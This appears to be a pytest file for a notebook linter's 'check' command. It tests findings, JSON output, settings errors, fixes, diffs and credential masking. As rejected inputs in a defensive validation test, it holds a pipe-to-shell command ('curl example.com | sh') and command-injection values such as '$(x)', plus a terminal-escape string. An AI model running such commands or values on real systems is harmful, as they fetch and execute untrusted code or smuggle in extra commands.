"""`nblint check`, as it is called."""

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from nblint.cli.main import main
from nblint.reading.header.header import Header
from tests.command import nblint
from tests.conftest import complete_header, notebook_bytes
from tests.credentials.tokens import make

KEYS = [
    "path",
    "code",
    "name",
    "severity",
    "message",
    "cell",
    "cell_id",
    "cell_type",
    "surface",
    "output",
    "mime",
    "row",
    "column",
    "end_row",
    "end_column",
    "file_line",
    "detector",
    "fingerprint",
    "fix",
    "url",
]

WITHOUT_AUDIENCE = complete_header().replace("## Audience\nSaid in a sentence.\n\n", "")


@pytest.fixture(autouse=True)
def in_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def write(path: str, *cells: tuple[str, str]) -> Path:
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(notebook_bytes(*cells))
    return target


def test_a_clean_notebook() -> None:
    write("a.ipynb", ("markdown", complete_header()))
    result = nblint("check")
    assert (result.exit_code, result.stdout, result.stderr) == (
        0,
        "All clean: 1 notebook checked.\n",
        "",
    )
    assert nblint("check", "--quiet").stdout == ""


def test_a_finding_says_where_what_and_what_to_do() -> None:
    write("notebooks/a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    result = nblint("check", "notebooks")
    assert result.exit_code == 1
    assert result.stdout == (
        "notebooks/a.ipynb:cell 1:3:1: NBL102 missing section 'Audience'\n"
        "  in the cell: # Phishing triage\n"
        "  3 | ## Purpose\n"
        "    | ^^^^^^^^^^\n"
        "  help: add a heading '## Audience' with its text below\n"
        "  fix: insert section 'Audience' (--fix --unsafe-fixes)\n"
        "1 error, 1 notebook checked.\n"
    )


def test_the_command_that_authors_of_a_repository_run() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE), ("code", ""))
    Path("nblint.toml").write_text('select = ["NBL1", "NBL508"]\nfix-command = "make fix"\n')
    shown = nblint("check").stdout
    assert "  fix: delete the cell (make fix)\n" in shown
    assert shown.endswith("2 errors, 1 notebook checked; 1 fixable with make fix.\n")
    assert "--unsafe-fixes" not in shown, "that command applies none"
    assert "[*] all fixable with make fix" in nblint("check", "--statistics").stdout
    for hostile in ("curl example.com | sh", "make fix; x", "$(x)", "a" * 61, "make\nfix"):
        Path("nblint.toml").write_text(f"fix-command = {json.dumps(hostile)}\n")
        assert nblint("check").exit_code == 2


def test_json_has_every_key_in_order() -> None:
    path = write("notebooks/a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    result = nblint("check", "--output-format", "json", ".")
    (finding,) = json.loads(result.stdout)
    assert list(finding) == KEYS
    line = path.read_text().splitlines().index('    "## Purpose\\n",') + 1
    assert finding | {"message": "", "url": ""} == {
        "path": "notebooks/a.ipynb",
        "code": "NBL102",
        "name": "missing-section",
        "severity": "error",
        "message": "",
        "cell": 1,
        "cell_id": "cell-1",
        "cell_type": "markdown",
        "surface": "source",
        "output": None,
        "mime": None,
        "row": 3,
        "column": 1,
        "end_row": 3,
        "end_column": len("## Purpose") + 1,
        "file_line": line,
        "detector": None,
        "fingerprint": finding["fingerprint"],
        "fix": {"safe": False, "message": "insert section 'Audience'"},
        "url": "",
    }
    assert finding["url"].endswith("/NBL102/")
    assert len(finding["fingerprint"]) == 32


def test_json_of_nothing_is_an_empty_array() -> None:
    write("a.ipynb", ("markdown", complete_header()))
    assert json.loads(nblint("check", "--output-format", "json").stdout) == []


def test_paths_are_relative_to_the_current_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    write("a b.ipynb", ("markdown", WITHOUT_AUDIENCE))
    Path("deep").mkdir()
    monkeypatch.chdir("deep")
    assert nblint("check", "..").stdout.startswith("../a b.ipynb:cell 1:")


def test_a_fingerprint_outlives_moves_and_edits_elsewhere() -> None:
    def fingerprint() -> str:
        (finding,) = json.loads(nblint("check", "--output-format", "json").stdout)
        return str(finding["fingerprint"])

    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    before = fingerprint()
    write("a.ipynb", ("code", "# A licence"), ("markdown", WITHOUT_AUDIENCE + "\nMore."))
    assert fingerprint() == before


def test_an_unreadable_file_is_a_finding() -> None:
    Path("a.ipynb").write_bytes(b'{"cells": [')
    write("b.ipynb", ("markdown", complete_header()))
    result = nblint("check", "--select", "NBL1")
    assert result.exit_code == 1
    assert result.stdout.startswith("a.ipynb:1:12: NBL001 not JSON: ")
    assert "2 notebooks checked" in result.stdout


def test_a_missing_path_is_said_and_the_rest_is_checked() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    result = nblint("check", "--output-format", "json", "gone.ipynb", "a.ipynb")
    assert result.exit_code == 2
    assert result.stderr == "nblint: gone.ipynb: no such file or folder\n"
    assert [finding["code"] for finding in json.loads(result.stdout)] == ["NBL102"]


@pytest.mark.parametrize(
    ("settings", "sentence"),
    [
        ("selct = []", "nblint.toml: unknown key 'selct'; did you mean 'select'?"),
        ("ignore = 1", "nblint.toml: ignore: expected a list, got an integer"),
        ("select = [", "nblint.toml: not valid TOML: "),
        ('select = ["NBL901"]', "nblint.toml: select: unknown rule code 'NBL901'"),
        ('ignore = ["missing-title"]', "'missing-title'; did you mean 'NBL101'?"),
        ('severity = { NBL36 = "error" }', "unknown rule code 'NBL36'; did you mean 'NBL306'?"),
        ('per-file-ignores = { a = ["NBL19"] }', "per-file-ignores: unknown rule code 'NBL19'"),
        (
            'credentials.disable = ["github-tokn"]',
            "credentials.disable: unknown detector 'github-tokn'; did you mean 'github-token'?",
        ),
        ("[tool.nblint]", "nblint.toml: 'tool.nblint' belongs in a pyproject.toml"),
        (
            'output-format = "jsn"',
            "nblint.toml: output-format: unknown output format 'jsn'; did you mean 'json'?",
        ),
    ],
)
def test_bad_settings_are_one_sentence(settings: str, sentence: str) -> None:
    write("a.ipynb", ("markdown", complete_header()))
    Path("nblint.toml").write_text(settings)
    result = nblint("check", "a.ipynb")
    assert result.exit_code == 2
    assert sentence in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["--select", "NBL12x"], "unknown rule code 'NBL12x'; did you mean"),
        (["--output-format", "jsn"], "unknown output format 'jsn'; did you mean 'json'?"),
        (["--unsafe-fixes"], "--unsafe-fixes requires --fix or --diff"),
        (["--config", "gone.toml"], "gone.toml: cannot be read"),
        (["-", "a.ipynb"], "'-' cannot be combined with other paths"),
        (["-", "--watch"], "'-' cannot be combined with --watch"),
        (["-", "--show-files"], "'-' cannot be combined with --show-files"),
        (["--watch", "--fix"], "--watch cannot be combined with --fix"),
        (["--fix", ""], "empty path; use '.' for the current folder"),
        (["--select", ""], "--select is empty: no rule would run"),
        (["--select", "nbl2"], "unknown rule code 'nbl2'; did you mean 'NBL2'?"),
        (
            ["--select", "NBL7"],
            "unknown rule code 'NBL7'; no family NBL7: the families are NBL0 file, NBL1",
        ),
        (["--stdin-filename", "a.ipynb", "b.ipynb"], "--stdin-filename requires '-'"),
        (["--diff", "--output-format", "json"], "--diff cannot be combined with --output-format"),
        (
            ["--show-files", "--output-file", "a.txt"],
            "--show-files cannot be combined with --output-file",
        ),
        (["--show-files", "--watch"], "--show-files cannot be combined with --watch"),
        (["--jobs", "many"], "--jobs must be a positive integer, not 'many'"),
        (["--jobs", "0"], "--jobs must be a positive integer, not '0'"),
    ],
)
def test_a_wrong_command_line_is_one_sentence(arguments: list[str], sentence: str) -> None:
    result = nblint("check", *arguments)
    assert result.exit_code == 2
    assert sentence in result.stderr


@pytest.mark.parametrize(
    ("settings", "arguments", "file"),
    [
        ("select = []", [], "nblint.toml: "),
        ('select = ["ALL"]\nignore = ["ALL"]', [], "nblint.toml: "),
        ('ignore = ["NBL2"]', ["--select", "NBL2"], "nblint.toml: "),
        ("", ["--select", "NBL104", "--ignore", "NBL104"], ""),
    ],
)
def test_nothing_is_not_clean(settings: str, arguments: list[str], file: str) -> None:
    for name in ("a.ipynb", "b.ipynb"):
        write(name, ("markdown", complete_header()))
    if settings:
        Path("nblint.toml").write_text(settings)
    result = nblint("check", *arguments)
    assert result.exit_code == 2
    sentence = f"{file}'select' and 'ignore' leave no rule to run"
    assert result.stderr.count(sentence) == 1
    assert "clean" not in result.stdout


def test_whether_files_can_be_read_is_something() -> None:
    write("a.ipynb", ("markdown", complete_header()))
    Path("nblint.toml").write_text('select = []\nextend-select = ["NBL001"]')
    assert nblint("check").exit_code == 0


def test_a_folder_without_notebooks_is_no_success() -> None:
    Path("empty").mkdir()
    result = nblint("check", "empty")
    assert result.exit_code == 3
    assert result.stderr == "nblint: empty: no notebooks in this folder\n"


def test_an_excluded_file_that_is_named_counts_as_checked() -> None:
    write("old/a.ipynb", ("markdown", "nothing"))
    Path("nblint.toml").write_text('exclude = ["old/**"]')
    assert nblint("check", "old/a.ipynb").exit_code == 0


def test_warnings_fail_only_a_strict_run() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    Path("nblint.toml").write_text('[severity]\nNBL102 = "warning"')
    assert "NBL102 warning: missing section" in nblint("check").stdout
    assert nblint("check").exit_code == 0
    assert nblint("check", "--strict").exit_code == 1
    assert nblint("check", "--strict", "--exit-zero").exit_code == 0


@pytest.mark.parametrize(
    ("settings", "arguments", "codes"),
    [
        ("", [], ["NBL101", "NBL102"]),
        ("", ["--select", "NBL102"], ["NBL102"]),
        ("", ["--select", "NBL101, NBL102"], ["NBL101", "NBL102"]),
        ("", ["--select", "NBL101 NBL102"], ["NBL101", "NBL102"]),
        ("", ["--ignore", "NBL102"], ["NBL101"]),
        ('ignore = ["NBL1"]\nselect = ["NBL102"]', [], ["NBL102"]),
        ('ignore = ["NBL1"]\nselect = ["NBL1"]', [], []),
        ('ignore = ["NBL101"]', ["--select", "ALL"], ["NBL102"]),
        ('select = ["NBL101"]', ["--extend-select", "NBL102"], ["NBL101", "NBL102"]),
        ('per-file-ignores = { "a*" = ["NBL101"] }', [], ["NBL102"]),
        ('per-file-ignores = { "b*" = ["NBL101"] }', [], ["NBL101", "NBL102"]),
    ],
)
def test_the_longest_prefix_decides_which_rules_run(
    settings: str, arguments: list[str], codes: list[str]
) -> None:
    write("a.ipynb", ("markdown", "Some words."))
    Path("nblint.toml").write_text(settings)
    result = nblint("check", "--output-format", "json", *arguments)
    found = {finding["code"] for finding in json.loads(result.stdout)}
    assert sorted(found & {"NBL101", "NBL102"}) == codes


def test_fix_writes_and_says_so() -> None:
    path = write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    path.chmod(0o640)
    result = nblint("check", "--fix", "--unsafe-fixes", "--ignore", "NBL104")
    assert result.exit_code == 0
    assert result.stderr == "1 finding fixed in 1 notebook.\n"
    assert "## Audience" in path.read_text()
    assert path.stat().st_mode & 0o777 == 0o640
    assert [file.name for file in path.parent.iterdir()] == ["a.ipynb"], "no temporary file stays"


def test_fix_follows_links_and_leaves_them() -> None:
    path = write("real/a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    try:
        Path("link.ipynb").symlink_to(path)
    except OSError:
        pytest.skip("this system has no links")
    nblint("check", "--fix", "--unsafe-fixes", "link.ipynb")
    assert Path("link.ipynb").is_symlink()
    assert "## Audience" in path.read_text()


def test_nothing_is_written_when_nothing_changes() -> None:
    path = write("a.ipynb", ("markdown", complete_header()))
    path.chmod(0o444)
    before = path.stat()
    assert nblint("check", "--fix").exit_code == 0
    assert (path.stat().st_ino, path.stat().st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


def test_diff_shows_cells_and_lines_and_writes_nothing() -> None:
    path = write("a.ipynb", ("code", "# A licence"), ("markdown", WITHOUT_AUDIENCE))
    before = path.read_bytes()
    result = nblint("check", "--diff", "--unsafe-fixes", "--ignore", "NBL104")
    assert "--- a.ipynb:cell 2\n+++ a.ipynb:cell 2\n" in result.stdout
    assert "\n+## Audience\n" in result.stdout
    assert '"' not in result.stdout, "no JSON"
    assert path.read_bytes() == before
    assert result.stderr == "1 finding would be fixed in 1 notebook.\n"


def test_diff_names_an_empty_cell_that_goes() -> None:
    write("a.ipynb", ("code", "a = 1"), ("code", ""))
    shown = nblint("check", "--diff", "--select", "NBL508").stdout
    assert shown == "--- a.ipynb:cell 2\n+++ /dev/null\n"


def test_diff_says_which_outputs_go() -> None:
    data = json.loads(notebook_bytes(("code", "a"), ("code", "b")))
    data["cells"][1]["execution_count"] = 3
    data["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "c"}]
    Path("a.ipynb").write_text(json.dumps(data))
    shown = nblint("check", "--diff", "--select", "NBL501").stdout.splitlines()
    assert shown[0] == "--- a.ipynb:cell 2"
    assert shown[3:] == ["-[1 output, an execution count]", "+[no output, no execution count]"]


def test_standard_input() -> None:
    Path("nblint.toml").write_text('per-file-ignores = { "drafts/**" = ["NBL1"] }')
    data = notebook_bytes(("markdown", WITHOUT_AUDIENCE))
    assert nblint("check", "-", stdin=data).stdout.startswith("stdin.ipynb:cell 1:")
    for paths in (["-"], []):
        named = nblint("check", *paths, "--stdin-filename", "drafts/a.ipynb", stdin=data)
        assert (named.exit_code, named.stdout) == (0, "All clean: 1 notebook checked.\n")


def test_standard_input_is_fixed_on_standard_output() -> None:
    data = notebook_bytes(("markdown", WITHOUT_AUDIENCE))
    path = write("a.ipynb", ("markdown", "another text"))
    before = path.read_bytes()
    options = ("-", "--stdin-filename", "a.ipynb", "--fix", "--unsafe-fixes")
    fixed = nblint("check", *options, "--ignore", "NBL104", stdin=data)
    assert fixed.exit_code == 0
    assert "## Audience" in json.dumps(json.loads(fixed.stdout_bytes))
    assert "All clean: 1 notebook checked.\n1 finding fixed in 1 notebook.\n" in fixed.stderr
    # What cannot be fixed comes back as it was, so that an editor can take it in any case.
    refused = nblint("check", *options, "--select", "NBL101,NBL508", stdin=data)
    assert refused.stdout_bytes == data
    unreadable = nblint("check", *options, stdin=b"{")
    assert (unreadable.exit_code, unreadable.stdout_bytes) == (1, b"{")
    assert "NBL001" in unreadable.stderr
    assert "+## Audience" in nblint("check", *options, "--diff", stdin=data).stdout
    assert path.read_bytes() == before, "the file is not written"
    assert [file.name for file in Path().iterdir()] == ["a.ipynb"]


def test_the_report_can_go_to_a_file() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    result = nblint("check", "--output-format", "json", "--output-file", "report.json")
    assert (result.exit_code, result.stdout) == (1, "")
    assert len(json.loads(Path("report.json").read_text())) == 1
    unwritable = nblint("check", "--output-file", "gone/report.json")
    assert unwritable.exit_code == 2
    assert "gone/report.json: cannot be written" in unwritable.stderr.replace("\\", "/")


def test_a_notebook_does_not_drive_the_terminal() -> None:
    write("a.ipynb", ("markdown", "## \x1b]0;owned\x07\x1b[2J\u202etitle"))
    result = nblint("check", "--select", "NBL1")
    assert "\\x1b]0;owned\\x07" in result.stdout
    assert not {"\x1b", "\x07", "\u202e"} & set(result.stdout)


def test_a_fault_of_a_rule_is_said_without_what_the_notebook_holds(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def title(header: Header) -> None:
        raise ValueError("the notebook's words")

    monkeypatch.setattr(Header, "title", property(title))
    write("a.ipynb", ("markdown", complete_header()))
    result = nblint("check")
    assert result.exit_code == 2
    assert "a.ipynb: NBL101 missing-title failed (ValueError): a bug in nblint" in result.stderr
    assert "words" not in result.output


def test_a_credential_is_hidden_wherever_it_stands() -> None:
    password = make("password")
    cells = (
        ("markdown", f"# {password}"),
        ("code", f'db_password = "{password}"'),
        # Nothing in these says that it is one.
        ("code", f'connect("bob", "{password}")\nimport os\nos.environ["{password}"]'),
        ("markdown", f"#Title {password}\n\nTODO"),
    )
    write("a.ipynb", *cells)
    for select in ("NBL1", "NBL2", "NBL3", "NBL5", "ALL"):
        for output_format in ("text", "json"):
            arguments = ("check", "--select", select, "--output-format", output_format)
            result = nblint(*arguments)
            assert password not in result.output
            assert password not in nblint(*arguments, "--diff", "--unsafe-fixes").output
    assert "\n  1 | # …\n    | ^^^\n" in nblint("check", "--select", "NBL1,NBL2").stdout
    shown = nblint("check", "--select", "NBL1", "--diff", "--unsafe-fixes").stdout
    assert "\n # …\n" in shown


def test_verbose_says_what_is_looked_at_and_why_not() -> None:
    for path in ("a.ipynb", "build/b.ipynb", "old/c.ipynb", ".venv/d.ipynb"):
        write(path, ("markdown", complete_header()))
    Path(".git").mkdir()
    Path(".gitignore").write_text("build/")
    Path("nblint.toml").write_text('exclude = ["old/**"]')
    result = nblint("check", "--verbose")
    assert result.stdout == "All clean: 1 notebook checked.\n"
    lines = [re.sub(r"\d+\.\d+ s$", "… s", line) for line in result.stderr.splitlines()]
    assert sorted(lines) == [
        "1 notebook skipped.",
        "nblint: .venv: skipped: folders of that name are always excluded",
        "nblint: 1 notebook in … s",
        "nblint: a.ipynb: … s",
        "nblint: build: skipped: ignored by .gitignore",
        "nblint: old/c.ipynb: skipped: excluded by nblint.toml",
        "nblint: settings for .: nblint.toml",
    ]
    assert nblint("check").stderr == "1 notebook skipped.\n"


def test_the_files_that_would_be_checked() -> None:
    write("b.ipynb", ("markdown", WITHOUT_AUDIENCE))
    write("a b/c.ipynb", ("markdown", WITHOUT_AUDIENCE))
    write("old/c.ipynb", ("markdown", WITHOUT_AUDIENCE))
    Path("nblint.toml").write_text('exclude = ["old/**"]')
    result = nblint("check", "--show-files", ".", "b.ipynb")
    assert (result.exit_code, result.stdout) == (0, "a b/c.ipynb\nb.ipynb\n")
    assert nblint("check", "--show-files", "gone.ipynb").exit_code == 2
    Path("empty").mkdir()
    assert nblint("check", "--show-files", "empty").exit_code == 3


def test_ctrl_c_is_neither_success_nor_findings(monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    write("a.ipynb", ("markdown", complete_header()))
    monkeypatch.setattr(Header, "__init__", interrupted)
    result = CliRunner().invoke(main, ["check"])
    assert (result.exit_code, result.output) == (130, "")


def test_statistics_do_not_need_the_format_of_the_settings() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    Path("nblint.toml").write_text('output-format = "github"')
    assert "NBL102" in nblint("check", "--statistics").stdout
    assert nblint("check", "--statistics", "--output-format", "github").exit_code == 2


def test_severity_of_all_rules_ranks_last() -> None:
    write("a.ipynb", ("markdown", WITHOUT_AUDIENCE))
    Path("nblint.toml").write_text('severity = { ALL = "warning", NBL = "error" }')
    assert nblint("check").exit_code == 1
    Path("nblint.toml").write_text('severity = { NBL = "warning", ALL = "error" }')
    assert nblint("check").exit_code == 0
